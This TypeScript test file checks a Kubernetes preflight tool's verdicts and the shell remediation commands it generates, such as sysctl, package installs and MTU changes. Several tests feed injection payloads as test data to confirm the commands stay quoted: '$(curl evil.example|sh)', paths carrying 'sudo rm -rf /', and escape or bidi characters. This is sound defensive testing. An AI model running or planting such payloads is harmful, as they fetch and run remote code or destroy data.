import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CheckId } from '../../../../reconciler/core/preflight/checks.ts';
import { CLUSTER_CHECKS, NODE_CHECKS } from '../../../../reconciler/core/preflight/checks.ts';
import { aPod, client } from '../lint/facts/build-facts.ts';
import { type Case, checked, look, verdict, type Verdicts } from './checked.ts';
import { aDevice, reporting } from './fleet.ts';
import { CLUSTER } from './verdicts/cluster.ts';
import { COMPUTE } from './verdicts/compute.ts';
import { DRIVERS } from './verdicts/drivers.ts';
import { NETWORK } from './verdicts/network.ts';
import { loaded, pages } from './verdicts/parts.ts';
import { STORAGE } from './verdicts/storage.ts';
import { SYSTEM } from './verdicts/system.ts';

/** What each check says of a node that is as it should be, of one that is not, and of one of which nobody knows. */
const VERDICTS: Verdicts & Readonly<Record<CheckId, unknown>> = {
  ...CLUSTER,
  ...SYSTEM,
  ...DRIVERS,
  ...COMPUTE,
  ...STORAGE,
  ...NETWORK,
};

describe('each check', () => {
  const rows = Object.entries(VERDICTS).flatMap(([id, cases = []]) =>
    cases.map(([said, example], index) => ({ id: id as CheckId, said, example, index })),
  );

  it.each(rows)('$id ($index) says: $said', ({ id, said, example }) => {
    expect(verdict(id, example)).toBe(said);
  });

  it('is shown passing and lacking, and, where it needs a report, unknown', () => {
    const unshown = Object.entries(VERDICTS).filter(([id, cases = []]) => {
      const results = new Set(cases.map(([said]) => said.split(':')[0]));
      const lacks = results.has('fail') || results.has('warn') || results.has('unknown');
      const check: { readonly from?: string } | undefined = NODE_CHECKS[id as keyof typeof NODE_CHECKS];
      return !results.has('pass') || !lacks || (check?.from === 'report' && !results.has('unknown'));
    });
    expect(unshown).toEqual([]);
  });

  it('has a name, what it asks for, and why', () => {
    const all = Object.entries({ ...CLUSTER_CHECKS, ...NODE_CHECKS });
    expect(new Set(all.map(([, { about }]) => about)).size).toBe(all.length);
    expect(all.filter(([id]) => !/^[a-z][a-z0-9-]+$/.test(id))).toEqual([]);
    expect(all.filter(([, { why }]) => !/^[A-Z].*\.$/.test(why))).toEqual([]);
    expect(all.filter(([, { about }]) => about.endsWith('.'))).toEqual([]);
  });
});

describe('what mends a lack', () => {
  it.each<readonly [CheckId, Case, readonly string[]]>([
    [
      'huge-pages',
      { seen: { hugePages: [] }, node: { has: { 'hugepages-2Mi': '0' } } },
      [
        '$ sudo sysctl -w vm.nr_hugepages=1500',
        "$ echo 'vm.nr_hugepages = 1500' | sudo tee /etc/sysctl.d/99-weka.conf",
        '$ sudo systemctl restart kubelet',
      ],
    ],
    // What others have, or took without asking, comes on top of what is needed.
    [
      'huge-pages',
      {
        seen: { hugePages: pages(1000, 0) },
        node: { has: { 'hugepages-2Mi': '2000Mi' } },
        beside: [aPod('database', { requests: { 'hugepages-2Mi': '1000Mi' } })],
      },
      [
        '$ sudo sysctl -w vm.nr_hugepages=2500',
        "$ echo 'vm.nr_hugepages = 2500' | sudo tee /etc/sysctl.d/99-weka.conf",
        '$ sudo systemctl restart kubelet',
      ],
    ],
    [
      'huge-pages',
      { seen: { hugePages: pages(4000) }, node: { has: { 'hugepages-2Mi': '0' } } },
      ['$ sudo systemctl restart kubelet'],
    ],
    [
      'huge-pages',
      { silent: true, node: { has: { 'hugepages-2Mi': '0' } } },
      [
        '$ grep HugePages_Total /proc/meminfo',
        '$ sudo sysctl -w vm.nr_hugepages=1500',
        "$ echo 'vm.nr_hugepages = 1500' | sudo tee /etc/sysctl.d/99-weka.conf",
        '$ sudo systemctl restart kubelet',
      ],
    ],
    // A node whose memory would be all set aside would no longer work.
    ['huge-pages', { seen: { hugePages: [], memoryMiB: 3200 }, node: { has: { 'hugepages-2Mi': '0' } } }, []],
    ['xfs-tools', { seen: { xfsTools: [] } }, ['$ sudo apt-get update && sudo apt-get install -y xfsprogs']],
    ['xfs-tools', { seen: { xfsTools: [], os: { id: 'rocky' } } }, ['$ sudo dnf install -y xfsprogs']],
    ['xfs-tools', { seen: { xfsTools: [], os: { id: 'amzn' } } }, ['$ sudo yum install -y xfsprogs']],
    [
      'xfs-tools',
      { seen: { xfsTools: [], os: { id: 'sles' } } },
      ['$ sudo zypper --non-interactive install xfsprogs'],
    ],
    ['xfs-tools', { seen: { xfsTools: [], os: { id: 'plan9' } } }, []],
    [
      'kernel-headers',
      { seen: { headers: [], os: { id: 'debian' } } },
      ['$ sudo apt-get update && sudo apt-get install -y "linux-headers-$(uname -r)"'],
    ],
    [
      'kernel-headers',
      { seen: { headers: [], os: { id: 'rhel' } } },
      ['$ sudo dnf install -y "kernel-devel-$(uname -r)"'],
    ],
    [
      'kernel-headers',
      { seen: { headers: [], os: { id: 'rhcos' } } },
      [
        "$ kubectl apply -f - <<'EOF'\napiVersion: machineconfiguration.openshift.io/v1\nkind: MachineConfig\nmetadata:\n  name: 90-weka-kernel-devel\n  labels: { machineconfiguration.openshift.io/role: worker }\nspec:\n  extensions: [kernel-devel]\nEOF",
      ],
    ],
    ['node-in-service', { node: { spec: { unschedulable: true } } }, ['$ kubectl uncordon node-a']],
    [
      'nodes-for-roles',
      { manifests: client('{ nodeSelector: { weka: client, tier: "" } }') },
      ['$ kubectl label node NODE weka=client tier='],
    ],
    [
      'network-mtu',
      { seen: { networkInterfaces: [aDevice({ mtu: 1500 })] } },
      ['$ sudo ip link set dev eth1 mtu 9000'],
    ],
    [
      'network-mtu',
      { seen: { networkInterfaces: [aDevice({ mtu: 1500 })], os: { id: 'rhel' } } },
      [
        '$ sudo ip link set dev eth1 mtu 9000',
        '$ sudo nmcli connection modify "$(nmcli -g GENERAL.CONNECTION device show eth1)" 802-3-ethernet.mtu 9000',
      ],
    ],
  ])('%s (%#)', (id, example, commands) => {
    const [, words, ...rest] = checked(id, example);
    expect(words).toMatch(/^[A-Z].*\.$/);
    expect(rest).toEqual(commands);
  });

  it('mends the lack of huge pages whatever there is, and never lowers what is set aside', () => {
    const node = (total: number, free: number, others: number) => ({
      seen: { hugePages: pages(total, free) },
      node: { has: { 'hugepages-2Mi': `${total * 2}Mi` } },
      beside: [aPod('other', { requests: { 'hugepages-2Mi': `${others}Mi` } })],
    });
    fc.assert(
      fc.property(fc.nat(6000), fc.nat(6000), fc.nat(4000), (total, held, others) => {
        const free = Math.max(0, total - held);
        const said = checked('huge-pages', node(total, free, others));
        const command = said.find((line) => line.includes('sysctl -w'));
        if (command === undefined) {
          expect(said[0]).toMatch(/^pass/);
          return;
        }
        const after = Number(/=(\d+)$/.exec(command)?.[1]);
        expect(after).toBeGreaterThan(total);
        expect(verdict('huge-pages', node(after, free + after - total, others))).toMatch(/^pass/);
      }),
    );
  });

  it('makes no command of what a node tells of itself', () => {
    const evil = '$(curl evil.example|sh)';
    const { problems } = look({
      seen: {
        networkInterfaces: [
          aDevice({ name: evil, mtu: 1500 }),
          aDevice({ name: '-rf', mtu: 1500 }),
          aDevice({ name: "a'b", mtu: 1500, link: 'down' }),
        ],
        persistence: {
          path: `/opt/${evil}`,
          exists: 'no',
          fileSystem: 'tmpfs',
          mountPoint: `/mnt/';${evil}`,
          totalGiB: 1,
          freeGiB: 1,
        },
        modules: [loaded(`wekafsio;${evil}`)],
        cpuManager: { policy: evil.slice(0, 20), sharedCpus: '' },
        headers: [evil],
        os: { id: evil },
      },
      node: { info: { kernelVersion: evil } },
    });
    const commands = problems.flatMap(({ mend }) => mend.commands);
    expect(commands.length).toBeGreaterThan(3);
    for (const command of commands) {
      // Within single quotes nothing is more than a text.
      expect(command.replaceAll(/'(?:[^']|'\\'')*'/g, '')).not.toContain('evil');
    }
  });
});

describe('a command', () => {
  const mounted = (mountPoint: string, path = '/opt/k8s-weka') => ({
    persistence: {
      path,
      exists: 'no' as const,
      fileSystem: 'tmpfs',
      mountPoint,
      totalGiB: 1,
      freeGiB: 1,
    },
  });

  it.each([
    ['a new line', '/mnt/a\nsudo rm -rf /\n'],
    ['a carriage return', '/mnt/a\rsudo rm -rf /'],
    ['a line separator', '/mnt/a\u2028b'],
    ['an escape', '/mnt/\u001B[2Ka'],
    ['a mark that turns the reading direction', '/mnt/\u202Ea'],
    ['what stands for the name of a node', '/mnt/\u0000'],
  ])('is not made of a path with %s', (_, path) => {
    const [, ...free] = checked('storage', { seen: mounted(path) });
    expect(free.filter((line) => line.startsWith('$'))).toEqual([]);
    const [, ...folder] = checked('persistence-file-system', { seen: mounted('/', path) });
    expect(folder.filter((line) => line.startsWith('$'))).toEqual([]);
  });

  it('has the name of a node only where it was meant', () => {
    expect(checked('storage', { seen: mounted('/x NODE y') }).at(-1)).toBe("$ df -h '/x NODE y'");
    expect(checked('storage', { seen: mounted('/mnt/NODE') }).at(-1)).toBe('$ df -h /mnt/NODE');
    const labels = client('{ nodeSelector: { NODE: NODE } }');
    expect(checked('nodes-for-roles', { manifests: labels }).at(-1)).toBe(
      '$ kubectl label node NODE NODE=NODE',
    );
  });

  it('has no name in it that no node of a cluster can have', () => {
    const name = "n'; touch x; 'n";
    const { problems } = look({
      beside: reporting(name, mounted('/x NODE y'), { spec: { unschedulable: true } }),
      only: [name],
    });
    const commands = problems.flatMap(({ mend }) => mend.commands);
    expect(commands).toContain("df -h '/x NODE y'");
    expect(commands).toContain('kubectl uncordon NODE');
    expect(commands.filter((command) => command.includes('touch'))).toEqual([]);
  });
});

it('counts what the containers of the manifests have already as theirs', () => {
  const pod = aPod('mounts-node-a', {
    labels: { app: 'weka', 'weka.io/mode': 'client', 'weka.io/client-name': 'mounts' },
    requests: { 'hugepages-2Mi': '1500Mi', cpu: '2' },
  });
  const example = {
    manifests: client(),
    beside: [pod],
    seen: { hugePages: pages(750, 0) },
    node: { has: { 'hugepages-2Mi': '1500Mi', cpu: '2' } },
  };
  expect(verdict('huge-pages', example)).toBe(
    'pass: 1,500 MiB set aside, 0 MiB of it free, 1,500 MiB offered by the kubelet',
  );
  expect(verdict('cpu-cores', example)).toBe('pass: 2 cores free of 2 cores, without hyper-threading');
});
